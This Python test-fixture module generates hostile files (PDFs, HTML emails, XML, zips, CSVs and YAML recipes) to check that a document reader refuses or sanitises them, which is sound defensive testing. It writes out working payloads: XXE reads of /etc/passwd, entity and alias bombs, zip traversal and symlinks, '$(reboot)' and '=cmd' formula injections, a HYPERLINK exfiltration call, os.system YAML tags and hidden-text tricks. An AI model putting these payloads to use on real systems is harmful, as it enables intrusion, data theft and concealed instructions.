"""Hostile files by what they are after: to hide, to fetch, to get out, to pass a limit, to run code."""

import io
import zipfile
from collections.abc import Iterator

from support.hostile import Hostile, archive, attached, mail, page_of, pdf, png, tiff

SECRET = "PAY TO THE OTHER ACCOUNT"
"""What a file hides: it must not be in what is read."""
SEEN = "Bonjour"
"""What a person sees: it must be in what is read."""
_HTML = b"Content-Type: text/html; charset=utf-8"
_SEEN_LINE = b"BT /F1 12 Tf 50 700 Td (Bonjour) Tj ET\n"
_SECRET_TEXT = f"({SECRET}) Tj ET\n".encode()


def _hiding(name: str, data: bytes, tells: str = "") -> Hostile:
    return Hostile(name, data, "read", hides=SECRET, shows=SEEN, tells=tells)


def _page(before: bytes, after: bytes = b"", size: bytes = b"612 792", at: bytes = b"50 600") -> bytes:
    shown = before + b"BT /F1 12 Tf " + at + b" Td " + _SECRET_TEXT + after
    return page_of(_SEEN_LINE + shown, b"", size)


def _with(catalogue: bytes = b"", page: bytes = b"", *objects: bytes) -> bytes:
    """Make a PDF of one page that greets, with more in its catalogue and its page."""
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 "
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> " + page + b" >>",
        b"<< /Length %d >>\nstream\n" % len(_SEEN_LINE) + _SEEN_LINE + b"\nendstream",
        *objects,
    )


def hidden() -> Iterator[Hostile]:
    """Make pages and mails that show a person one thing and a reader another."""
    secret = SECRET.encode()
    pages = {
        "white": b"1 1 1 rg\n",
        "white-grey": b"1 g\n",
        "white-cmyk": b"0 0 0 0 k\n",
        "nearly-white": b"0.99 0.99 0.99 rg\n",
        "red-on-red": b"1 0 0 rg 40 590 400 30 re f\n",
    }
    for name, before in pages.items():
        yield _hiding(f"{name}.pdf", _page(before), "was not read")
    for mode in (3, 7):
        drawn = b"BT %d Tr /F1 12 Tf 50 600 Td " % mode + _SECRET_TEXT
        yield _hiding(f"mode-{mode}.pdf", page_of(_SEEN_LINE + drawn, b""), "drawn without ink")
    tiny = b"BT /F1 0.5 Tf 50 600 Td " + _SECRET_TEXT
    yield _hiding("tiny.pdf", page_of(_SEEN_LINE + tiny, b""), "too small")
    for name, at in {
        "left": b"-900 600",
        "below": b"50 -500",
        "above": b"50 5000",
        "right": b"900 600",
    }.items():
        yield _hiding(f"{name}.pdf", _page(b"", at=at), "outside")
    yield _hiding("covered.pdf", _page(b"", b"0 g 40 590 400 30 re f\n"), "was not read")
    yield _hiding("covered-white.pdf", _page(b"", b"1 g 40 590 400 30 re f\n"), "was not read")
    note = b"<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (" + secret + b") >>"
    yield _hiding("note.pdf", _with(b"", b"/Annots [5 0 R]", note))
    popup = b"<< /Type /Annot /Subtype /FreeText /F 2 /Rect [0 0 9 9] /Contents (" + secret + b") >>"
    yield _hiding("hidden-note.pdf", _with(b"", b"/Annots [5 0 R]", popup))
    field = b"<< /Type /Annot /Subtype /Widget /FT /Tx /F 2 /T (a) /V (" + secret + b") /Rect [0 0 9 9] >>"
    yield _hiding("hidden-field.pdf", _with(b"/AcroForm << /Fields [5 0 R] >>", b"/Annots [5 0 R]", field))
    script = b"<< /S /JavaScript /JS (app.alert\\('" + secret + b"'\\)) >>"
    yield _hiding("script.pdf", _with(b"/OpenAction 5 0 R", b"", script))
    yield _hiding("launch.pdf", _with(b"/OpenAction << /S /Launch /F (/bin/" + secret + b") >>"))
    yield _hiding("link.pdf", _with(b"/OpenAction << /S /URI /URI (http://192.0.2.1/" + secret + b") >>"))
    title = b"<< /Title (" + secret + b") /Subject (" + secret + b") >>"
    yield _hiding("title.pdf", _with(b"/Metadata 5 0 R", b"", title))
    spans = b"/Span << /ActualText (" + secret + b") >> BDC BT /F1 12 Tf 50 650 Td (x) Tj ET EMC\n"
    yield _hiding("actual-text.pdf", page_of(_SEEN_LINE + spans, b""))
    alt = b"/Figure << /Alt (" + secret + b") >> BDC 0 0 5 5 re f EMC\n"
    yield _hiding("alt.pdf", page_of(_SEEN_LINE + alt, b""))
    styles = {
        "none": "display:none",
        "invisible": "visibility:hidden",
        "zero": "font-size:0",
        "one-point": "font-size:1px",
        "white": "color:#fff",
        "white-name": "color:white",
        "same": "color:#123456;background-color:#123456",
        "opacity": "opacity:0",
        "far": "position:absolute;left:-9999px",
        "indent": "text-indent:-9999px",
        "clipped": "height:0;overflow:hidden",
        "outlook": "mso-hide:all;display:none",
        "important": "display:none !important",
        "capitals": "DISPLAY:NONE",
    }
    for name, style in styles.items():
        body = f"<p>{SEEN}</p><div style='{style}'>{SECRET}</div>".encode()
        yield _hiding(f"style-{name}.eml", mail(body, _HTML))
    sheet = "<style>.h{display:none}</style>"
    tags = {
        "attribute": f"<p hidden>{SECRET}</p>",
        "class": f"{sheet}<p class=h>{SECRET}</p>",
        "comment": f"<!-- {SECRET} -->",
        "conditional": f"<!--[if mso]>{SECRET}<![endif]-->",
        "title": f"<title>{SECRET}</title>",
        "script": f"<script>{SECRET}</script>",
        "template": f"<template>{SECRET}</template>",
        "input": f"<input type=hidden value='{SECRET}'>",
        "data": f"<p data-x='{SECRET}'>x</p>",
        "nested": f"<div style='display:none'><div style='display:block'>{SECRET}</div></div>",
    }
    for name, tag in tags.items():
        yield _hiding(f"tag-{name}.eml", mail(f"<p>{SEEN}</p>{tag}".encode(), _HTML))
    utf8 = b"Content-Type: text/plain; charset=utf-8"
    letters = "".join(chr(0xE0000 + ord(letter)) for letter in SECRET)
    yield _hiding("tag-letters.eml", mail(f"{SEEN} {letters}".encode(), utf8))
    turned = f"{SEEN} \u202e{SECRET[::-1]}\u202c"
    yield Hostile("turned.eml", mail(turned.encode(), utf8), "read", hides="\u202e", shows=SEEN)
    joined = "\u200b".join("Bonjour")
    yield Hostile("zero-width.eml", mail(joined.encode(), utf8), "read", hides="\u200b", shows=SEEN)


def fetching() -> Iterator[Hostile]:
    """Make XML and HTML that ask for a file or an address, or grow when they are read."""
    head = b'<?xml version="1.0"?>'
    local = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>'
    yield Hostile("xxe-file.xml", head + local, "refused")
    yield Hostile(
        "xxe-net.xml", head + local.replace(b"file:///etc/hostname", b"http://192.0.2.1/x"), "refused"
    )
    outside = b'<!DOCTYPE a SYSTEM "http://192.0.2.1/a.dtd"><a>x</a>'
    yield Hostile("outside-dtd.xml", head + outside, "refused")
    parameter = b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://192.0.2.1/p">%p;]><a>x</a>'
    yield Hostile("parameter.xml", head + parameter, "refused")
    square = b'<!DOCTYPE a [<!ENTITY x "' + b"y" * 100_000 + b'">]><a>' + b"&x;" * 10_000 + b"</a>"
    yield Hostile("square.xml", head + square, "refused")
    reach = b'<i:include href="file:///etc/passwd" parse="text"/>'
    include = b'<a xmlns:i="http://www.w3.org/2001/XInclude">' + reach + b"</a>"
    yield Hostile("include.xml", head + include, "read", hides="root:")
    sheet = b'<?xml-stylesheet type="text/xsl" href="http://192.0.2.1/a.xsl"?><a>Bonjour</a>'
    yield Hostile("stylesheet.xml", head + sheet, "read")
    place = b'<a xmlns:x="http://www.w3.org/2001/XMLSchema-instance" x:schemaLocation="u http://192.0.2.1/s">Bonjour</a>'
    yield Hostile("schema-place.xml", head + place, "read")
    yield Hostile("attributes.xml", head + b"<a " + b"".join(b'b%d="" ' % n for n in range(60_000)) + b"/>")
    yield Hostile("value.xml", head + b'<a b="' + b"x" * 9_000_000 + b'"/>')
    yield Hostile(
        "namespaces.xml", head + b"".join(b'<a xmlns="u%d">' % n for n in range(200)) + b"</a>" * 200
    )
    yield Hostile("cdata.xml", head + b"<a><![CDATA[" + b"x" * 6_000_000 + b"]]></a>")
    yield Hostile("comment.xml", head + b"<a><!--" + b"x" * 6_000_000 + b"--></a>")
    yield Hostile("utf7.xml", b'<?xml version="1.0" encoding="UTF-7"?>+ADw-a+AD4-x+ADw-/a+AD4-')
    yield Hostile("lies.xml", b'<?xml version="1.0" encoding="UTF-16"?><a>Bonjour</a>')
    yield Hostile("nul.xml", head + b"<a>\0</a>", "refused")
    yield Hostile("two-roots.xml", head + b"<a/><b/>", "refused")
    yield Hostile("empty.xml", b"", "refused", tells="empty")
    yield Hostile("empty.pdf", b"", "refused", tells="empty")
    yield Hostile("empty.eml", b"", "refused", tells="empty")
    seen = f"<p>{SEEN}</p>"
    for name, tag in {
        "image": "<img src='http://192.0.2.1/x.png'>",
        "frame": "<iframe src='file:///etc/passwd'></iframe>",
        "object": "<object data='file:///etc/passwd'></object>",
        "base": "<base href='http://192.0.2.1/'><img src=x>",
        "refresh": "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'>",
        "font": "<style>@import 'http://192.0.2.1/x.css';</style>",
    }.items():
        yield Hostile(f"{name}.html", f"<html>{tag}{seen}".encode(), "read", shows=SEEN, hides="root:")
    body = b"Content-Type: message/external-body; access-type=local-file; name=/etc/passwd"
    yield Hostile("external-body.eml", mail(b"Content-Type: text/plain\n\n", body), hides="root:")
    file = b"<< /Type /Filespec /F (/etc/passwd) /UF (/etc/passwd) >>"
    named = b"/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>"
    yield Hostile("outside-file.pdf", _with(named, b"", file), "read", shows=SEEN, hides="root:")
    stream = b"<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream"
    yield Hostile("outside-stream.pdf", _with(b"/Metadata 5 0 R", b"", stream), "read", hides="root:")


def _zip_of(name: str, data: bytes = b"Bonjour", *, mode: int = 0o100644) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        info = zipfile.ZipInfo("x" * len(name))
        info.filename, info.external_attr = name, mode << 16
        made.writestr(info, data)
    return out.getvalue()


def names() -> Iterator[Hostile]:
    """Make mails and archives whose files are called so that they would lie elsewhere, or nowhere."""
    odd = {
        "up": "../../../etc/x.txt",
        "absolute": "/etc/cron.d/x.txt",
        "windows": "..\\..\\x.txt",
        "drive": "C:\\x.txt",
        "stream": "a.txt:hidden",
        "device": "CON.txt",
        "dots": "...",
        "home": "~/x.txt",
        "encoded": "%2e%2e%2fx.txt",
        "turned": "facture\u202efdp.exe",
        "long": "a" * 5_000 + ".txt",
        "blank": " ",
        "shell": "$(reboot).txt",
        "formula": "=cmd|' /C calc'!A0.txt",
        "html": "<script>alert(1)</script>.txt",
    }
    for name, called in odd.items():
        quoted = called.replace("\\", "\\\\")
        part = f'--b\r\nContent-Disposition: attachment; filename="{quoted}"\r\n\r\nBonjour\r\n--b--\r\n'
        whole = mail(part.encode(), b"Content-Type: multipart/mixed; boundary=b")
        yield Hostile(f"attached-{name}.eml", whole, "read")
        if name not in ("long", "blank"):
            yield Hostile(f"packed-{name}.zip", _zip_of(called))
    yield Hostile("link.zip", _zip_of("passwd", b"/etc/passwd", mode=0o120777), hides="root:")
    yield Hostile("device.zip", _zip_of("null", b"", mode=0o020666))
    twice = archive({"a.txt": "first", "b.txt": "second"}).replace(b"b.txt", b"a.txt")
    yield Hostile("twice.zip", twice)
    locked = bytearray(_zip_of("a.txt"))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[locked.index(mark) + at] |= 1
    yield Hostile("locked.zip", bytes(locked))
    yield Hostile("text-after.zip", _zip_of("a.txt") + b"x" * 1_000)


def limits() -> Iterator[Hostile]:
    """Make what is just within a limit and what is just beyond it."""
    yield Hostile("letters-within.txt", b"a" * 5_000_000, "read")
    yield Hostile("letters-beyond.txt", b"a" * 5_000_001, "refused", tells="characters")
    yield Hostile("files-within.eml", attached("a.txt", b"x", "text/plain", 197), "read")
    yield Hostile("files-beyond.eml", attached("a.txt", b"x", "text/plain", 201), "refused", tells="parts")
    for count, fate, tells in ((300, "read", ""), (301, "refused", "pages")):
        kids = b" ".join(b"%d 0 R" % n for n in range(3, count + 3))
        made = pdf(
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
            *[b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"] * count,
        )
        yield Hostile(f"pages-{count}.pdf", made, fate, tells=tells)
    yield Hostile("pages-within.tiff", tiff(3), "read")
    yield Hostile("points-beyond.png", png(7_747, 7_747, colour=0), "refused", tells="pixels")
    inner = mail(b"Bonjour")
    for depth in range(1, 10):
        inner = mail(inner, b"Content-Type: message/rfc822")
        if depth in (6, 9):
            yield Hostile(f"depth-{depth}.eml", inner, "read" if depth == 6 else "refused")


def sheets() -> Iterator[Hostile]:
    """Make tables that a spreadsheet would run, or that lie about what they hold."""
    for name, cell in {
        "equals": "=cmd|' /C calc'!A0",
        "plus": "+1+cmd",
        "minus": "-1+cmd",
        "at": "@SUM(1)",
        "tab": "\t=1+1",
        "link": '"=HYPERLINK(""http://192.0.2.1/?""&A1)"',
    }.items():
        yield Hostile(f"formula-{name}.csv", f"a,b\n1,{cell}\n".encode(), "read")
    yield Hostile("columns-within.csv", b",".join(b"c%d" % n for n in range(500)) + b"\n1\n")
    yield Hostile(
        "columns-beyond.csv", b",".join(b"c%d" % n for n in range(501)) + b"\n1\n", "refused", tells="500"
    )
    yield Hostile("cell-beyond.csv", b"a,b\n1," + b"x" * 131_073 + b"\n", "refused", tells="131072")
    yield Hostile("heads-alike.csv", b"a,a,a\n1,2,3\n", "either")
    yield Hostile("empty.csv", b"", "refused")
    yield Hostile("utf16.csv", "a,b\né,2\n".encode("utf-16"))
    yield Hostile("no-text.csv", bytes(range(256)) * 100)
    yield Hostile("empty.xlsx", b"", "refused")
    yield Hostile("page.xlsx", page_of(_SEEN_LINE, b""), "refused")
    yield Hostile("no-json.json", b'[{"a": NaN, "a": 1e400}]')
    yield Hostile("keys-twice.json", b'[{"a": 1, "a": 2}]')


RECIPE = """recipe: r
llm: none
source: {folder: inbox/}
steps: [{rule: x, value: 'true'}]
sinks: [{table: out/a.csv, columns: {k: x.value}}]
"""


def recipes() -> Iterator[Hostile]:
    """Make recipes that would run code, read or write elsewhere, or mean two things."""

    def changed(name: str, old: str, new: str, fate: str = "refused") -> Hostile:
        return Hostile(f"{name}.yaml", RECIPE.replace(old, new).encode(), fate)

    yield Hostile("plain.yaml", RECIPE.encode(), "read")
    yield changed("tag", "recipe: r", "recipe: !!python/object/apply:os.system ['true']")
    yield changed("name-tag", "recipe: r", "recipe: !!python/name:os.system")
    yield changed("own-tag", "recipe: r", "recipe: !include /etc/passwd")
    yield changed("twice", "recipe: r", "recipe: r\nrecipe: s")
    yield changed("unknown", "llm: none", "llm: none\nshell: reboot")
    yield changed("mistyped", "steps:", "step:")
    yield changed("number", "recipe: r", "recipe: 7")
    yield changed("list", "source: {folder: inbox/}", "source: [inbox/]")
    yield changed("import", "value: 'true'", 'value: \'__import__("os").system("true")\'')
    yield changed("attribute", "value: 'true'", "value: 'fields.__class__.__mro__'")
    yield changed("lambda", "value: 'true'", "value: '(lambda: 1)()'")
    yield changed("comprehension", "value: 'true'", "value: '[x for x in fields]'")
    yield changed("power", "value: 'true'", "value: '9**9**9**9'")
    yield changed("up", "inbox/", "../../etc")
    yield changed("absolute", "inbox/", "/etc")
    yield changed("written-up", "out/a.csv", "../../a.csv")
    yield changed("written-absolute", "out/a.csv", "/tmp/a.csv")
    yield changed("variable", "inbox/", '"${HOME}/x"')
    yield changed(
        "file-address", "{table: out/a.csv, columns: {k: x.value}}", "{webhook: 'file:///etc/passwd'}"
    )
    yield changed(
        "password", "{table: out/a.csv, columns: {k: x.value}}", "{sql: a, url: 'postgresql://u:pw@h/d'}"
    )
    aliases = "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9) if n else 'x'}]\n" for n in range(12))
    yield Hostile("aliases.yaml", (aliases + RECIPE).encode(), "refused")
    yield Hostile("deep.yaml", b"recipe: " + b"[" * 20_000, "refused")
    yield Hostile("deep-lines.yaml", b"".join(b" " * n + b"a:\n" for n in range(3_000)), "refused")
    yield Hostile("long.yaml", RECIPE.encode() + b"about: " + b"x" * 5_000_000)
    yield Hostile("two.yaml", (RECIPE + "---\n" + RECIPE).encode(), "refused")
    yield Hostile("nul.yaml", RECIPE.replace("r\n", "r\0\n", 1).encode(), "refused")
    yield Hostile("no-utf8.yaml", RECIPE.encode() + b"about: \xff\xfe", "refused")
    yield Hostile("empty.yaml", b"", "refused")
    yield Hostile(
        "merge.yaml", b"x: &x {llm: none}\n<<: *x\n" + RECIPE.replace("llm: none\n", "").encode(), "refused"
    )


CLASSES = (hidden, fetching, names, limits, sheets, recipes)
